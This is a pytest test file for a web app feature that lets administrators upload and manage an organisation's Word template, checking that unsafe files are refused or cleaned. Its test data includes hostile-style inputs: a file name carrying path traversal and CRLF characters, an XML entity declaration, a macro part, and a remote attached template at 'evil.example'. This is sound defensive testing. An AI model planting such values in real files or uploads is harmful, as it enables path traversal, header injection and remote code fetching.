"""An organisation's own Word template: taken in, told of, given back, taken away."""

import io
import zipfile

import docx
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import update

from app.access.actor import Actor
from app.directory.queries import get_organisation
from app.directory.rules import Side
from app.directory.service import create_organisation
from app.documents.docx.reading import read_paragraph_texts
from app.documents.docx.styles import shipped_template
from app.files.models import Blob
from app.files.rules import ScanState
from app.identity.service.users import create_user
from app.kernel.language import Language
from tests.factories.hostile import members_of
from tests.factories.packages import office, relations
from tests.factories.templates import localised_template

SYSTEM = Actor.system()
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def client_of(web, *, is_administrator: bool) -> TestClient:
    with web.database.writing() as db:
        user = create_user(
            db,
            SYSTEM,
            email=f"user{is_administrator}@example.no",
            name="Kari",
            language=Language.EN,
            is_administrator=is_administrator,
        )
    return web.client(user)


@pytest.fixture
def keeper(web) -> TestClient:
    return client_of(web, is_administrator=True)


@pytest.fixture
def digdir(web):
    with web.database.writing() as db:
        return create_organisation(db, SYSTEM, name="Digitaliseringsdirektoratet", side=Side.STATE)


@pytest.fixture
def path(digdir) -> str:
    return f"/organisations/{digdir.id}/template"


def now(web, digdir):
    with web.database.reading() as db:
        return get_organisation(db, SYSTEM, digdir.id)


def send(client: TestClient, path: str, data: bytes, *, name="mal.docx", version="1"):
    return client.post(path, data={"version": version}, files={"file": (name, data, WORD)})


def put(web, digdir, client: TestClient, path: str, data: bytes, *, name="mal.docx") -> None:
    """Send a template in and take it into use."""
    version = now(web, digdir).version
    assert send(client, path, data, name=name, version=str(version)).status_code == 303
    assert client.post(f"{path}/use", data={"version": str(version + 1)}).status_code == 303


def with_member(data: bytes, name: str, content: bytes) -> bytes:
    """The package with one member more."""
    target = io.BytesIO(data)
    with zipfile.ZipFile(target, "a") as package:
        package.writestr(name, content)
    return target.getvalue()


def test_a_template_is_taken_in_and_given_back(web, keeper, digdir, path):
    answer = send(keeper, path, shipped_template(), name="Vår mal.docx")
    assert answer.headers["location"] == path
    assert now(web, digdir).template_sha256 is None
    shown = keeper.get(path).text
    assert "The template that waits" in shown
    assert "Every style that our papers use is in the template." in shown
    sample = keeper.get(f"{path}/sample")
    assert sample.headers["content-type"] == WORD
    assert "This is an invented case." in "".join(
        paragraph.text for paragraph in read_paragraph_texts(sample.content)
    )
    assert keeper.post(f"{path}/use", data={"version": "2"}).headers["location"] == path
    shown = keeper.get(path).text
    assert "Vår mal.docx" in shown
    assert "What it does with a paper" in shown
    assert "Every style that our papers use is in the template." in shown
    assert "Vår mal.docx" in keeper.get(f"/organisations/{digdir.id}").text
    file = keeper.get(f"{path}/file")
    assert file.content == shipped_template()
    assert file.headers["content-type"] == WORD
    assert file.headers["content-disposition"].startswith("attachment;")
    assert file.headers["content-security-policy"] == "sandbox; default-src 'none'"
    assert file.headers["cache-control"] == "no-store"


def test_it_is_told_what_falls_back(keeper, path):
    plain = io.BytesIO()
    docx.Document().save(plain)
    assert send(keeper, path, plain.getvalue()).status_code == 303
    shown = keeper.get(path).text
    assert "those of the standard one are used" in shown
    assert "Samstyr Decision" in shown


@pytest.mark.parametrize(
    ("data", "name", "said"),
    [
        (b"", "mal.docx", "The file is empty."),
        (b"%PDF-1.7", "mal.docx", "The content of the file is not what its name says."),
        (b"x" * (20 * 1024 * 1024 + 1), "mal.docx", "The file is too large"),
        (shipped_template(), "mal.exe", "Files of this kind cannot come in."),
        (shipped_template(), "mal.docm", "The file holds macros"),
        (with_member(shipped_template(), "word/vbaProject.bin", b"x"), "mal.docx", "The file holds macros"),
        (with_member(shipped_template(), "word/x.xml", b"<!DOCTYPE x><x/>"), "mal.docx", "declares entities"),
    ],
    ids=["empty", "pdf", "large", "name", "macro name", "macros", "entities"],
)
def test_a_file_that_cannot_serve_is_refused_with_the_reason(web, keeper, digdir, path, data, name, said):
    answer = send(keeper, path, data, name=name)
    assert answer.status_code == 422
    assert said in answer.text
    assert 'aria-invalid="true"' in answer.text
    assert now(web, digdir).template_sha256 is None
    assert now(web, digdir).candidate_sha256 is None


def test_a_forgotten_file_is_asked_for(keeper, path):
    answer = keeper.post(path, data={"version": "1"})
    assert answer.status_code == 422
    assert "Choose a file." in answer.text


def test_a_name_leads_nowhere(web, keeper, digdir, path):
    put(web, digdir, keeper, path, shipped_template(), name='../../etc/"x\r\n.docx')
    assert "/" not in now(web, digdir).template_name
    assert "\n" not in keeper.get(f"{path}/file").headers["content-disposition"]


def test_a_stale_choice_does_not_replace_a_newer_one(web, keeper, digdir, path):
    put(web, digdir, keeper, path, shipped_template(), name="first.docx")
    answer = send(keeper, path, with_member(shipped_template(), "x.txt", b"x"), name="late.docx")
    assert answer.status_code == 409
    assert "first.docx" in answer.text
    assert now(web, digdir).template_name == "first.docx"
    for step in ("remove", "use", "discard"):
        if step == "use":
            send(keeper, path, localised_template(), name="second.docx", version="3")
        assert keeper.post(f"{path}/{step}", data={"version": "1"}).status_code == 409
    assert now(web, digdir).template_name == "first.docx"


def test_what_was_taken_out_is_said_before_the_template_is_used(web, keeper, digdir, path):
    remote = relations(("rId1", "attachedTemplate", "http://evil.example/x.dotm", True))
    send(keeper, path, with_member(shipped_template(), "word/_rels/settings.xml.rels", remote.encode()))
    shown = keeper.get(path).text
    assert "Taken out of the file" in shown
    assert "a template that is fetched from elsewhere" in shown
    kept = web.app.state.store.read(now(web, digdir).candidate_sha256)
    assert b"evil" not in b"".join(members_of(kept).values())


def test_a_template_that_waits_for_the_scanner_goes_out_in_no_paper(web, keeper, digdir, path):
    send(keeper, path, shipped_template())
    with web.database.writing() as db:
        db.execute(update(Blob).values(scan_state=ScanState.PENDING))
    assert keeper.get(f"{path}/sample").status_code == 422
    with web.database.writing() as db:
        db.execute(update(Blob).values(scan_state=ScanState.CLEAN))
    assert keeper.get(f"{path}/sample").status_code == 200


def test_a_template_that_is_left_is_not_used(web, keeper, digdir, path):
    put(web, digdir, keeper, path, shipped_template(), name="first.docx")
    send(keeper, path, localised_template(), name="second.docx", version="3")
    assert keeper.post(f"{path}/discard", data={"version": "4"}).status_code == 303
    assert now(web, digdir).template_name == "first.docx"
    assert now(web, digdir).candidate_sha256 is None
    assert keeper.post(f"{path}/use", data={"version": "5"}).status_code == 404


def test_a_word_template_file_is_taken_too(web, keeper, digdir, path):
    put(web, digdir, keeper, path, office("dotx"), name="mal.dotx")
    assert keeper.get(f"{path}/sample").status_code == 200


def test_taking_it_away_is_asked_about_first(web, keeper, digdir, path):
    assert keeper.get(f"{path}/remove").status_code == 404
    put(web, digdir, keeper, path, shipped_template())
    asked = keeper.get(f"{path}/remove").text
    assert "Remove the Word template?" in asked
    assert 'name="version" value="3"' in asked
    assert now(web, digdir).template_sha256 is not None
    answer = keeper.post(f"{path}/remove", data={"version": "3"})
    assert answer.headers["location"] == f"/organisations/{digdir.id}"
    assert now(web, digdir).template_sha256 is None
    assert keeper.get(f"{path}/file").status_code == 404
    assert keeper.post(f"{path}/remove", data={}).status_code == 422


def test_the_standard_template_is_there_to_begin_from(keeper, path):
    assert keeper.get(f"{path}/standard").content == shipped_template()


@pytest.mark.parametrize("part", ["", "/file", "/standard", "/remove", "/sample"])
def test_readers_and_strangers_see_none_of_it(web, keeper, digdir, path, part):
    put(web, digdir, keeper, path, shipped_template())
    assert keeper.get(path + part).status_code == 200
    assert client_of(web, is_administrator=False).get(path + part).status_code == 404
    assert web.client().get(path + part).headers["location"].startswith("/login")


def test_readers_and_strangers_change_nothing(web, keeper, digdir, path):
    put(web, digdir, keeper, path, shipped_template())
    send(keeper, path, localised_template(), name="other.docx", version="3")
    reader = client_of(web, is_administrator=False)
    for client in (reader, web.client()):
        assert send(client, path, shipped_template(), name="x.docx", version="4").status_code in {401, 404}
        for step in ("remove", "use", "discard"):
            assert client.post(f"{path}/{step}", data={"version": "4"}).status_code in {401, 404}
    assert now(web, digdir).template_name == "mal.docx"
